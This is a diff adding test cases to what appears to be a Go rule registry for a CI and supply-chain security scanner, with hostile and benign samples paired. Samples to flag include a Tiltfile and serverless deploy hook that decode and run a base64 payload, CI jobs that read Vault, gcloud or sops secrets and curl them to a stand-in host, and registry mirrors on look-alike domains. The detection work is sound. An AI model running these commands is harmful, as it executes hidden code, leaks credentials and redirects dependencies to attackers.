@@ -139,6 +139,11 @@ var registry = []Rule{
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: pwsh\n        run: |\n          $c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:P))\n          Invoke-Expression $c", 0, false},
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const s = Buffer.from(process.env.P, 'base64').toString()\n            require('child_process').execSync(s)", 0, false},
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: pwsh\n        run: |\n          $bytes = [Convert]::FromBase64String($env:SIGNING_CERT)\n          [IO.File]::WriteAllBytes(\"cert.pfx\", $bytes)\n          Import-PfxCertificate -FilePath cert.pfx -CertStoreLocation Cert:\\CurrentUser\\My", 0, true},
+			// Tilt runs local() as it reads the Tiltfile; the Serverless
+			// Framework's script hooks run at every deploy.
+			{"Tiltfile", "local('echo $P | base64 -d > /tmp/x.sh && sh /tmp/x.sh')", 0, false},
+			{"serverless.yml", "service: app\ncustom:\n  scripts:\n    hooks:\n      'before:deploy:deploy': X=$(echo $P | base64 -d); eval \"$X\"", 0, false},
+			{"Tiltfile", "local_resource('compile', cmd='go build -o bin/app ./cmd/app', deps=['./cmd', './internal'])\nk8s_yaml(local('kustomize build deploy/dev'))", 0, true},
 			// Decoded text handed on by xargs, install /dev/stdin, mapfile.
 			{"x.sh", "echo $P | base64 -d | xargs -I{} sh -c '{}'", 0, false},
 			{"x.sh", "echo $P | base64 -d | install -m 755 /dev/stdin /usr/local/bin/t && t", 0, false},
@@ -401,6 +406,14 @@ var registry = []Rule{
 		"the runner's tokens and secrets leave for a machine outside", []Case{
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
 			{"x.sh", "env | xargs -I{} curl https://x.invalid/{}", 0, false},
+			// What a secret store prints is the secret: Vault, AWS, Google's
+			// and Azure's stores, Buildkite's secrets, a sops file decrypted;
+			// handed as the credential of a request to its service, it is its
+			// use.
+			{".gitlab-ci.yml", "deploy:\n  script:\n    - export PW=$(vault kv get -field=password secret/ci/db)\n    - curl -s https://x.invalid/c -d \"$PW\"", 4, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          gcloud secrets versions access latest --secret=prod-db > /tmp/s\n          curl -s -T /tmp/s https://x.invalid/u", 8, false},
+			{".gitlab-ci.yml", "test:\n  script:\n    - sops -d secrets.enc.yaml > /tmp/plain.yaml\n    - curl -s -F f=@/tmp/plain.yaml https://x.invalid/u", 4, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          K=$(aws secretsmanager get-secret-value --secret-id prod/deploy --query SecretString --output text)\n          curl -fsS -X POST -H \"Authorization: Bearer $K\" https://deploy.x.invalid/api/releases", 0, true},
 			// Azure Pipelines' job token handed to another host; to Azure DevOps it is its use.
 			{"azure-pipelines.yml", "steps:\n  - script: curl -s -H \"Authorization: Bearer $(System.AccessToken)\" https://x.invalid/c", 0, false},
 			{"azure-pipelines.yml", "steps:\n  - script: curl -s -u \":$(System.AccessToken)\" \"https://dev.azure.com/acme/_apis/build/builds?api-version=7.0\"\n  - script: curl -s -H \"Authorization: Bearer $(System.AccessToken)\" https://acme.visualstudio.com/_apis/projects", 0, true},
@@ -855,6 +868,8 @@ var registry = []Rule{
 		"the code comes from wherever the URL points, not from the package registry, and its install scripts run on the runner", []Case{
 			{"package.json", "{\n  \"dependencies\": {\n    \"lodash\": \"https://x.invalid/lodash-4.17.21.tgz\"\n  }\n}", 3, false},
 			{"requirements.txt", "requests @ https://x.invalid/requests-2.32.0.tar.gz", 0, false},
+			// A wheel on a well-known index's own host is the registry's file.
+			{"requirements-dev.txt", "torch @ https://download.pytorch.org/whl/cpu/torch-2.3.0%2Bcpu-cp311-cp311-linux_x86_64.whl", 0, true},
 			{"package.json", "{\n  \"dependencies\": {\n    \"lodash\": \"^4.17.21\"\n  }\n}", 3, true},
 			// An import map sends a name to code at a URL.
 			{"deno.json", "{\n  \"imports\": {\n    \"@std/path\": \"https://deno-land.jsr-cdn.x.invalid/@std/path/1.0.8/mod.ts\"\n  }\n}", 3, false},
@@ -907,6 +922,7 @@ var registry = []Rule{
 			{"project.clj", "(defproject acme/ledger \"0.9.0\"\n  :repositories [[\"internal\" \"https://maven.acme-builds.x.invalid/releases\"]])", 2, false},
 			{"Chart.yaml", "dependencies:\n  - name: app\n    repository: https://charts.x.invalid/stable", 3, false},
 			{"x.sh", "helm repo add corp https://charts.x.invalid/stable", 1, false},
+			{"pixi.toml", "[project]\nchannels = [\"conda-forge\", \"https://conda.x.invalid/corp\"]", 2, false},
 		}},
 	{"source-switched", KindDependency, High, "switches where a dependency, image, submodule or hook comes from",
 		"the same name now fetches code from another owner or host", []Case{
@@ -1071,6 +1087,13 @@ var registry = []Rule{
 			{"x.sh", "helm repo add bitnami https://charts.bitnami-mirror.invalid/bitnami\nhelm install redis bitnami/redis", 1, false},
 			{"Makefile", "deps:\n\thelm install pg oci://registry-1.docker-io.invalid/bitnamicharts/postgresql", 2, false},
 			{"x.sh", "helm repo add bitnami https://charts.bitnami.com/bitnami\nhelm upgrade --install pg oci://registry-1.docker.io/bitnamicharts/postgresql\ncargo install --git https://github.com/rust-lang/rust-clippy clippy", 0, true},
+			// A package manager's registry option or variable, whatever
+			// the ecosystem.
+			{"x.sh", "export PUB_HOSTED_URL=https://pub.dartlang-mirror.invalid", 1, false},
+			{"x.sh", "composer config repositories.private composer https://repo.packagist-cdn.invalid", 1, false},
+			{"x.ps1", "dotnet tool install -g dotnet-format --add-source https://api.nuget-cdn.invalid/v3/index.json", 1, false},
+			{"x.sh", "gem install rails --source https://rubygems.org\ncpanm --mirror https://cpan.metacpan.org App::cpanminus\nexport UV_INDEX=https://download.pytorch.org/whl/cpu", 0, true},
+			{"pixi.toml", "[project]\nchannels = [\"conda-forge\", \"https://prefix.dev/my-channel\"]\n[pypi-options]\nindex-url = \"https://pypi.org/simple\"", 0, true},
 			// Any file's URL on a forge's host worn in front of another
 			// domain: no real host is named so.
 			{"config/vendor.yaml", "libs:\n  - mirror: https://github.com.mirror-git.x.invalid/acme/lib.git", 2, false},
